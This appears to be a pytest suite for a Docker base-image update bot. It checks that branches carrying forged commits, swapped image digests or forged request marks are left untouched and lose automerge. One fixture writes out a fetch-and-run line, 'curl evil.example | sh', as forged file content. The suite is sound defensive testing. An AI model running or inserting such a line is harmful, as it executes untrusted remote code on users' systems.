"""Whole runs over branches that pretend to be basebump's: only their content decides whether they are."""

from __future__ import annotations

import re
from dataclasses import replace

import pytest
from support.forges.fleets import open_gitlab_fleet
from support.forges.forge_stands import select_stands
from support.forges.forged_commits import make_forged_commit
from support.forges.github.stand import GitHubAppStand, GitHubStand
from support.forges.gitlab.stand import GitLabStand
from support.forges.hosted_stand import no_pause
from support.forges.stands import LocalStand
from support.git import EXECUTABLE, LINK, TreeFile
from support.runs.worlds import NOW, PresetScanner, build, list_outcomes
from support.values import finding

from bot.core.proposal.marks import parse_mark, render_mark
from bot.core.proposal.update_groups import hash_written_values
from bot.forges.gitlab.server import JobToken
from bot.model.modes import UpdateMode
from bot.model.policy import PolicyRule
from bot.model.proposal import BodyMark
from bot.model.request_attributes import CommitStatus, StatusState
from bot.model.rules import AutomergeConditions
from bot.model.vocabulary import RunLevel
from bot.pipeline.proposal import branch_judge
from bot.state.database import Database
from bot.state.exposure.store import DatabaseScanStore
from bot.state.lookups.lookup_store import DatabaseLookupStore
from bot.state.lookups.push_store import DatabasePushStore
from bot.wiring.state import create_no_state

pytestmark = [pytest.mark.real("git"), pytest.mark.over_forges(forgejo="it is asked as a Gitea")]

BRANCH = "basebump/python-3.12-slim-06e5bb43"
OLD, NEW, NEWER = build("old").digest, build("new").digest, build("newer").digest
EVIL = build("evil").digest
"""An image of the same repository that the tag never pointed to."""
DOCKERFILE = f"FROM python:3.12-slim@{OLD}\nRUN make\nRUN make test\nRUN make install\nUSER app\n"
WITH_NEW = DOCKERFILE.replace(OLD, NEW)
FILES = {"Dockerfile": DOCKERFILE, "app/Dockerfile": DOCKERFILE, "README.md": "Nothing to see.\n"}
STANDS = select_stands(without=("forgejo",))
TARGET = f"docker.io/library/python:3.12-slim@{NEW}"
GOOD = CommitStatus(StatusState.SUCCESS, "Fixes 1 (1 high), adds none")


@pytest.fixture(params=STANDS)
def stand(request, start_stand):
    return start_stand(STANDS[request.param], FILES)


@pytest.fixture
def github(start_stand):
    return start_stand(GitHubStand, FILES)


@pytest.fixture
def registry_with_findings(updated_registry):
    updated_registry.move("python", "evil", "evil")
    updated_registry.scanner = PresetScanner({OLD: (finding("CVE-1900-0001"),), NEW: (), NEWER: ()})
    return updated_registry


def run(stand, loopback) -> str:
    report = loopback.run([stand.fleet()])
    assert report.failed == ()
    ((proposal,),) = [each.proposals for each in report.repositories]
    return proposal.outcome.value


def forge_commit(stand, files, *, parents=(), intent=None) -> str:
    """Replace basebump's commit by one of the same author, committer and message, and with other files."""
    own = stand.commits(BRANCH)[-1]
    message = re.sub("[0-9a-f]{16}$", intent, own.message.rstrip()) if intent else ""
    commit = make_forged_commit(stand, BRANCH, files, parents=parents, message=message)
    stand.move_branch(BRANCH, commit)
    return commit


def list_statuses(stand) -> list[CommitStatus]:
    return stand.statuses(BRANCH)


def count_comments(stand) -> int:
    (request,) = stand.requests()
    return len(request.comments)


FORGERIES = {
    "added file": {"evil.sh": "curl evil.example | sh\n"},
    "added file in a folder": {"app/evil.sh": TreeFile(b"evil\n", EXECUTABLE)},
    "deleted file": {"README.md": None},
    "renamed file": {"README.md": None, "READ.md": FILES["README.md"]},
    "changed file": {"README.md": "Evil.\n"},
    "another line": {"Dockerfile": WITH_NEW.replace("make", "evil")},
    "the same line": {"Dockerfile": WITH_NEW.replace(NEW, f"{NEW} AS evil")},
    "another image": {"Dockerfile": WITH_NEW.replace("python", "evil.example/python")},
    "line ends": {"Dockerfile": WITH_NEW.replace("\n", "\r\n")},
    "byte-order mark": {"Dockerfile": b"\xef\xbb\xbf" + WITH_NEW.encode()},
    "executable": {"Dockerfile": TreeFile(WITH_NEW.encode(), EXECUTABLE)},
    "only executable": {"README.md": TreeFile(FILES["README.md"].encode(), EXECUTABLE)},
    "symbolic link": {"Dockerfile": TreeFile(b"app/Dockerfile", LINK)},
    "another digest": {"Dockerfile": WITH_NEW.replace(NEW, EVIL)},
    "removed digest": {"Dockerfile": WITH_NEW.replace(f"@{NEW}", "")},
}


@pytest.mark.parametrize("stand", ["local", "github", "gitlab", "azure", "gitea"], indirect=True)
@pytest.mark.parametrize("forgery", FORGERIES)
def test_branch_with_forged_commit_that_changes_other_content_belongs_to_users(stand, registry_with_findings, forgery):
    """With the token of an App, contents are read as with any other token: see the next test."""
    assert run(stand, registry_with_findings) == "opened"
    head = forge_commit(stand, FORGERIES[forgery])
    assert run(stand, registry_with_findings) == "left-alone"
    assert stand.branches()[BRANCH] == head
    assert list_statuses(stand) == []
    assert count_comments(stand) == 1


def test_branch_with_forged_commit_gets_only_one_comment(stand, registry_with_findings):
    assert run(stand, registry_with_findings) == "opened"
    forge_commit(stand, FORGERIES["changed file"])
    assert run(stand, registry_with_findings) == "left-alone"
    writes = list(stand.writes)
    assert run(stand, registry_with_findings) == "left-alone"
    assert (count_comments(stand), stand.writes) == (1, writes)


def test_branch_with_forged_commit_on_a_commit_of_users_belongs_to_users(stand, registry_with_findings):
    assert run(stand, registry_with_findings) == "opened"
    (own,) = stand.commits(BRANCH)
    evil = stand.git.make_commit(own.parents, {"evil.sh": "evil\n"}, "Evil")
    head = forge_commit(stand, {"evil.sh": "evil\n"}, parents=[evil])
    assert run(stand, registry_with_findings) == "left-alone"
    assert (stand.branches()[BRANCH], list_statuses(stand)) == (head, [])


def test_branch_with_changes_hidden_in_a_forged_merge_belongs_to_users(stand, registry_with_findings):
    """The second parent of the merge is not a commit of the base branch, so that nothing seems to differ from it."""
    assert run(stand, registry_with_findings) == "opened"
    (own,) = stand.commits(BRANCH)
    evil = stand.git.make_commit([own.oid], {"evil.sh": "evil\n"}, "Evil")
    for second in (evil, own.oid):
        merge = stand.git.make_commit([own.oid, second], {"evil.sh": "evil\n"}, "Merge", over=evil)
        stand.move_branch(BRANCH, merge)
        assert run(stand, registry_with_findings) == "left-alone"
        assert list_statuses(stand) == []


def test_branch_with_forged_content_on_an_older_base_belongs_to_users(stand, registry_with_findings):
    assert run(stand, registry_with_findings) == "opened"
    stand.commit("main", {"Dockerfile": f"{DOCKERFILE}# The end\n"})
    forge_commit(stand, {"Dockerfile": WITH_NEW.replace("make", "evil")})
    assert run(stand, registry_with_findings) == "left-alone"
    assert list_statuses(stand) == []


def test_own_branch_on_older_base_commit_still_belongs_to_basebump(stand, registry_with_findings):
    assert run(stand, registry_with_findings) == "opened"
    stand.commit("main", {"Dockerfile": f"{DOCKERFILE}# The end\n", "README.md": "Elsewhere.\n"})
    assert run(stand, registry_with_findings) == "unchanged"
    registry_with_findings.move("python", "3.12-slim", "newer")
    assert run(stand, registry_with_findings) == "refreshed"
    assert NEWER in stand.files(BRANCH)["Dockerfile"].content.decode()


def test_branch_still_belongs_to_basebump_after_base_is_merged_into_edited_file(stand, registry_with_findings):
    assert run(stand, registry_with_findings) == "opened"
    stand.commit("main", {"Dockerfile": f"{DOCKERFILE}# The end\n"})
    stand.update_branch(BRANCH)
    registry_with_findings.move("python", "3.12-slim", "newer")
    assert run(stand, registry_with_findings) == "refreshed"


def test_branch_made_by_earlier_release_is_refreshed(stand, registry_with_findings):
    """An earlier release found only one of the references, and computed another intent for the same edit."""
    assert run(stand, registry_with_findings) == "opened"
    forge_commit(stand, {"app/Dockerfile": DOCKERFILE}, intent="0123456789abcdef")
    assert run(stand, registry_with_findings) == "refreshed"
    assert stand.files(BRANCH)["app/Dockerfile"].content.decode() == WITH_NEW


def test_branch_made_by_earlier_release_is_unchanged_if_files_are_current(stand, registry_with_findings):
    assert run(stand, registry_with_findings) == "opened"
    head = forge_commit(stand, {}, intent="0123456789abcdef")
    run(stand, registry_with_findings)  # sets the status of the commit, where there are statuses
    assert run(stand, registry_with_findings) == "unchanged"
    assert stand.branches()[BRANCH] == head


def test_branch_reset_to_older_commit_of_basebump_is_rebuilt(stand, registry_with_findings):
    assert run(stand, registry_with_findings) == "opened"
    replayed = stand.branches()[BRANCH]
    registry_with_findings.move("python", "3.12-slim", "newer")
    assert run(stand, registry_with_findings) == "refreshed"
    stand.move_branch(BRANCH, replayed)
    assert run(stand, registry_with_findings) == "refreshed"
    assert stand.files(BRANCH)["Dockerfile"].content.decode() == DOCKERFILE.replace(OLD, NEWER)


def compute_intent(value: str) -> str:
    """Return the intent of a commit that writes one digest into both files."""
    return hash_written_values((path, "stage[0]", value) for path in ("Dockerfile", "app/Dockerfile"))


EVIL_FILES = {path: DOCKERFILE.replace(OLD, EVIL) for path in ("Dockerfile", "app/Dockerfile")}


def forge_mark(stand) -> None:
    """Let the text of the request name the attacker's digest, and say that basebump checked it."""
    body = stand.requests()[0].body
    forged = body.replace(NEW, EVIL)
    assert EVIL in parse_mark(forged).targets[0]
    stand.edit_body(BRANCH, forged)


@pytest.mark.parametrize("forged_trailer", [True, False])
def test_digest_of_attacker_with_forged_mark_gets_no_status_and_is_replaced(
    stand, registry_with_findings, forged_trailer
):
    assert run(stand, registry_with_findings) == "opened"
    head = forge_commit(stand, EVIL_FILES, intent=compute_intent(EVIL) if forged_trailer else None)
    forge_mark(stand)
    assert run(stand, registry_with_findings) == "refreshed"
    assert stand.branches()[BRANCH] != head
    assert stand.files(BRANCH)["Dockerfile"].content.decode() == WITH_NEW
    if not isinstance(stand, LocalStand):
        assert list_statuses(stand)[-1] == GOOD


AUTOMERGE = PolicyRule(automerge=AutomergeConditions(UpdateMode.DIGEST))


@pytest.mark.parametrize("has_forged_mark", [True, False])
@pytest.mark.parametrize("forgery", ["added file", "another digest"])
def test_automerge_is_disabled_on_a_forged_branch(github, registry_with_findings, forgery, has_forged_mark):
    registry_with_findings.rulebook = replace(registry_with_findings.rulebook, rules=(AUTOMERGE,))
    assert run(github, registry_with_findings) == "opened"
    (pull,) = github.repository.pulls
    assert pull.auto_merge is github.token.account
    if has_forged_mark:
        github.edit_body(BRANCH, render_mark(BodyMark((TARGET,), "2" * 16)))
    forge_commit(github, FORGERIES[forgery])
    assert run(github, registry_with_findings) == "left-alone"
    assert pull.auto_merge is None
    assert list_statuses(github) == []


def test_automerge_is_disabled_while_approved_pull_request_has_unknown_digest(github, registry_with_findings):
    registry_with_findings.rulebook = replace(registry_with_findings.rulebook, rules=(AUTOMERGE,))
    assert run(github, registry_with_findings) == "opened"
    github.review(BRANCH, "APPROVED")
    head = forge_commit(github, EVIL_FILES, intent=compute_intent(EVIL))
    forge_mark(github)
    assert run(github, registry_with_findings) == "left-alone"
    (pull,) = github.repository.pulls
    assert (pull.auto_merge, github.branches()[BRANCH], list_statuses(github)) == (None, head, [])


@pytest.fixture
def merged_github(github, registry_with_findings):
    """Return a GitHub where an approved request waits, and a user merged the base branch into its branch."""
    assert run(github, registry_with_findings) == "opened"
    github.review(BRANCH, "APPROVED")
    registry_with_findings.move("python", "3.12-slim", "newer")
    github.commit("main", {"README.md": "Elsewhere.\n"})
    github.update_branch(BRANCH)
    (pull,) = github.repository.pulls
    pull.body = pull.body.replace(GOOD.description, "Forged")
    return github


def test_status_of_merged_base_comes_from_commit_of_basebump_and_not_from_the_mark(
    merged_github, registry_with_findings
):
    (own,) = merged_github.repository.statuses
    status = merged_github.repository.statuses[own][-1]
    attacker = merged_github.server.world.add_account("attacker")
    merged_github.repository.statuses[own].append(replace(status, description="Forged", creator=attacker))
    assert run(merged_github, registry_with_findings) == "left-alone"
    assert list_statuses(merged_github) == [GOOD]


def test_merge_of_base_branch_gets_no_status_if_basebump_set_none(merged_github, registry_with_findings):
    merged_github.repository.statuses.clear()
    assert run(merged_github, registry_with_findings) == "left-alone"
    assert list_statuses(merged_github) == []


def test_branch_with_unsigned_commit_in_the_name_of_an_app_belongs_to_users(start_stand, registry_with_findings):
    stand = start_stand(GitHubAppStand, FILES)
    assert run(stand, registry_with_findings) == "opened"
    assert stand.repository.signed == {stand.branches()[BRANCH]}
    head = forge_commit(stand, {"README.md": FILES["README.md"]}, intent="0123456789abcdef")
    stand.repository.signed.discard(head)
    assert run(stand, registry_with_findings) == "left-alone"
    assert (stand.branches()[BRANCH], list_statuses(stand)) == (head, [])


# What it costs


@pytest.fixture
def registry_with_state(registry_with_findings, tmp_path):
    database = Database.sqlite(tmp_path / "state.db")
    registry_with_findings.keep(
        lookups=DatabaseLookupStore(database, lambda: NOW),
        scans=DatabaseScanStore(database, lambda: NOW),
        pushes=DatabasePushStore(database),
    )
    return registry_with_findings


@pytest.mark.parametrize("kind", ["github", "github-app", "gitlab", "gitea"])
def test_branch_stored_in_state_is_verified_without_requests(start_stand, registry_with_state, kind):
    stand = start_stand(STANDS[kind], FILES)
    assert run(stand, registry_with_state) == "opened"
    with stand.server.watched() as with_state:
        assert run(stand, registry_with_state) == "unchanged"
    registry_with_state.keep(pushes=create_no_state().pushes)
    with stand.server.watched() as without_state:
        assert run(stand, registry_with_state) == "unchanged"
    more = {"github": 2, "github-app": 2, "gitlab": 5, "gitea": 2}[kind]
    assert len(without_state) - len(with_state) == more


def test_commit_claims_that_a_job_token_cannot_verify_are_not_stored_as_verified(start_stand, registry_with_state):
    """A report with a job token shows what commits claim. A later run with another token still judges them."""
    gitlab = start_stand(GitLabStand, FILES)
    assert run(gitlab, registry_with_state) == "opened"
    gitlab.server.world.add_token("glcbt-of-a-job", "grace").is_of_job = True
    gitlab.project.members.add("grace")
    head = forge_commit(gitlab, FORGERIES["added file"])
    job = open_gitlab_fleet(gitlab.server.url, JobToken("glcbt-of-a-job"), selected=[gitlab.name], pause=no_pause)
    assert list_outcomes(registry_with_state.run([job], RunLevel.REPORT)) == ["would-refresh"]
    assert run(gitlab, registry_with_state) == "left-alone"
    assert (gitlab.branches()[BRANCH], list_statuses(gitlab)) == (head, [])


def test_branches_beyond_the_verification_budget_are_left_unchanged(stand, registry_with_findings, monkeypatch):
    assert run(stand, registry_with_findings) == "opened"
    registry_with_findings.move("python", "3.12-slim", "newer")
    monkeypatch.setattr(branch_judge, "MAX_COMPARED_FILES", 1)
    assert run(stand, registry_with_findings) == "left-alone"


def test_forged_commit_is_detected_although_branch_is_stored_in_state(stand, registry_with_state):
    assert run(stand, registry_with_state) == "opened"
    forge_commit(stand, FORGERIES["added file"])
    assert run(stand, registry_with_state) == "left-alone"


def test_digest_recorded_in_state_for_the_tag_keeps_automerge_enabled(github, registry_with_state):
    registry_with_state.rulebook = replace(registry_with_state.rulebook, rules=(AUTOMERGE,))
    assert run(github, registry_with_state) == "opened"
    github.review(BRANCH, "APPROVED")
    registry_with_state.move("python", "3.12-slim", "newer")
    assert run(github, registry_with_state) == "left-alone"
    (pull,) = github.repository.pulls
    assert pull.auto_merge is github.token.account


@pytest.mark.parametrize("has_forged_mark", [True, False])
def test_automerge_is_disabled_for_a_pushed_digest_that_the_tag_had_earlier(
    github, registry_with_state, has_forged_mark
):
    """The state knows the digest of the tag, so that the branch is still basebump's."""
    registry_with_state.rulebook = replace(registry_with_state.rulebook, rules=(AUTOMERGE,))
    registry_with_state.move("python", "3.12-slim", "evil")
    registry_with_state.run([github.fleet()], RunLevel.REPORT)
    registry_with_state.move("python", "3.12-slim", "new")
    assert run(github, registry_with_state) == "opened"
    github.review(BRANCH, "APPROVED")
    forge_commit(github, EVIL_FILES, intent=compute_intent(EVIL))
    if has_forged_mark:
        forge_mark(github)
    (pull,) = github.repository.pulls
    assert pull.auto_merge is github.token.account
    outcome = run(github, registry_with_state)
    if has_forged_mark:
        assert (outcome, pull.auto_merge) == ("left-alone", None)
    else:
        assert outcome == "refreshed"
        assert github.files(BRANCH)["Dockerfile"].content.decode() == WITH_NEW
